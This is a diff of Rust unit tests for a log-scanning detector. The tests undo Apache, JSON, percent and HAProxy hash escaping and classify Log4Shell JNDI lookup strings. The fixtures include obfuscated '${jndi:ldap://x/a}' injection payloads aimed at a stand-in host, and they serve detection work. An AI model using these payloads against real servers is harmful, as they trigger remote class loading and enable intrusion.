@@ -336,3 +336,38 @@ fn the_corpus_keeps_its_verdicts() {
         assert_eq!(found, verdict, "{line}");
     }
 }
+
+#[test]
+fn the_escaping_of_each_log_is_undone_once() {
+    for (text, escape, plain) in [
+        ("a\\\"b\\\\c\\x41", Escape::Apache, "a\"b\\cA"),
+        ("a\\\"b\\\\c\\/\\u0041\\ud83d\\ude00\\x42\\n", Escape::Json, "a\"b\\c/A\u{1f600}B\n"),
+        ("\\ud83d\\u0041", Escape::Json, "\u{fffd}A"),
+        ("%2541%zz%", Escape::Percent, "%41%zz%"),
+        ("#22#7B#zz#", Escape::Hash, "\"{#zz#"),
+        ("%41\\x41", Escape::None, "%41\\x41"),
+    ] {
+        assert_eq!(String::from_utf8(undo(text, escape)).unwrap(), plain, "{text} {escape:?}");
+    }
+}
+
+/// HAProxy writes a brace as `#7B`, which no decoder of an application undoes.
+#[test]
+fn a_brace_that_only_the_log_escaped_is_seen() {
+    let headers = "$#7Bjndi:ldap://x/a#7D";
+    let event =
+        Event { headers, escape: Escape::Hash, ..Event::bare(OrgId(0), 0, [192, 0, 2, 1].into()) };
+    assert_eq!(attempt(&event).map(|found| found.key), Some("ldap://x/a".to_owned()));
+    assert_eq!(attempt(&Event { escape: Escape::None, ..event }), None);
+}
+
+/// A line of no known product is read as it stands, and as a web server would have written it.
+#[test]
+fn lines_of_nobody() {
+    let verdict = |line| decode_line(line).1.map_or("benign", |found| found.verdict.as_str());
+    assert_eq!(decode_line("hello").0, None);
+    assert_eq!(verdict("hello"), "benign");
+    assert_eq!(verdict("x ${jndi:\\-ldap:-x} y"), "effective/local");
+    assert_eq!(verdict("x \\x24\\x7bjndi:ldap://x/a}"), "effective/remote");
+    assert_eq!(verdict("x $\\\"{jndi:ldap://x/a}"), "benign");
+}
